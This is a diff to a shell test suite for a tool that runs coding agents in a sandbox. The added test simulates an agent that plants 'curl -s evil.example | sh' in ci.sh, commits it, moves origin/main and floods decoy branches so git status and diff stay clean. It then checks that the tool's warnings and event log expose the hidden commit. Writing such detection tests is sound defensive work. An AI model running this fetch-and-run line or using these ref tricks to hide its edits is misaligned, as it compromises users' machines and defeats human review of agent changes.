@@ -285,7 +285,14 @@ expect_status 0 "$CA_BIN" run claude "$gitrepo" --ignore-workspace-config --netw
                 "mkdir -p .git/modules/sub/hooks" "mkdir -p .git/lfs/objects/ab"; do
                 if (cd /workspace && eval "$t") >/dev/null 2>&1; then echo "WROTE: $t"; else echo "refused: $t"; fi
         done
-        cd /workspace && git -c user.name=a -c user.email=a@a commit -q --allow-empty -m by-agent && echo committed
+        # A commit on the user'"'"'s branch leaves git status and git diff clean; a remote-tracking
+        # ref moved onto it makes `git diff origin/main` clean too.
+        cd /workspace && echo "curl -s evil.example | sh" >ci.sh && git add ci.sh &&
+                git -c user.name=a -c user.email=a@a commit -q -m by-agent && echo committed &&
+                git update-ref refs/remotes/origin/main HEAD &&
+                # 300 branches, sorted before the user'"'"'s: they must not push its move out of
+                # the warnings or the event.
+                for i in $(seq 100 399); do git rev-parse HEAD >".git/refs/heads/aaa$i"; done
         # run brings the commit into the repository while the session goes on: it shows in the
         # repository'"'"'s store (read-only here), and leaves the session'"'"'s own.
         c=$(git rev-parse HEAD) && p=$(echo "$c" | cut -c1-2)/$(echo "$c" | cut -c3-)
@@ -319,6 +326,16 @@ expect_grep "the workspace's .git/rebase-merge/git-rebase-todo was added: review
 rm -rf "$gitrepo/.git/rebase-merge"
 # The hidden edits: git on the host shows nothing of them (that is the attack), the end of the
 # session names each.
+# The commit: nothing of it in git status or git diff (that is the attack), the end of the
+# session names the branch it moved, and the ref the agent made.
+check "git status showed the committed edit" test -z "$(git -C "$gitrepo" status --porcelain -- ci.sh)"
+expect_grep "during session [^,]*, refs/heads/[a-z]* moved from [0-9a-f]{12} to [0-9a-f]{12}: git status and git diff do not show commits; review them with 'git log -p [0-9a-f]*\.\.[0-9a-f]*'" "$TEST_TMP/err"
+expect_grep "refs/remotes/origin/main was created at [0-9a-f]{12}: review it with 'git log -p [0-9a-f]*\.\.[0-9a-f]*'" "$TEST_TMP/err"
+expect_grep '"change":"moved","from":"[0-9a-f]*","path":"refs/heads/[a-z]*","to":"[0-9a-f]*".*"type":"workspace-git-changed"' "$log"
+expect_grep "during session [^,]*, more refs changed: 'coding-agents events tail --type workspace-git-changed' lists them all" "$TEST_TMP/err"
+expect_grep '"change":"moved","count":[1-9][0-9]*,"how":"more refs than listed","path":"refs".*"type":"workspace-git-changed"' "$log"
+moved=$(sed -n "s/.*refs\/heads\/[a-z]* moved from [0-9a-f]* to [0-9a-f]*: .*'git log -p \([0-9a-f]*\.\.[0-9a-f]*\)'.*/\1/p" "$TEST_TMP/err" | head -1)
+check "the review command shows the agent's commit" sh -c 'git -C "$1" log -p "$2" | grep -q evil.example' _ "$gitrepo" "$moved"
 expect_grep '^hid$' "$TEST_TMP/out"
 check "git status showed the hidden edits" test -z "$(git -C "$gitrepo" status --porcelain -- build.sh test.sh)"
 expect_grep "index was set to hide 'build.sh' from git status and git diff \(assume-unchanged\)" "$TEST_TMP/err"
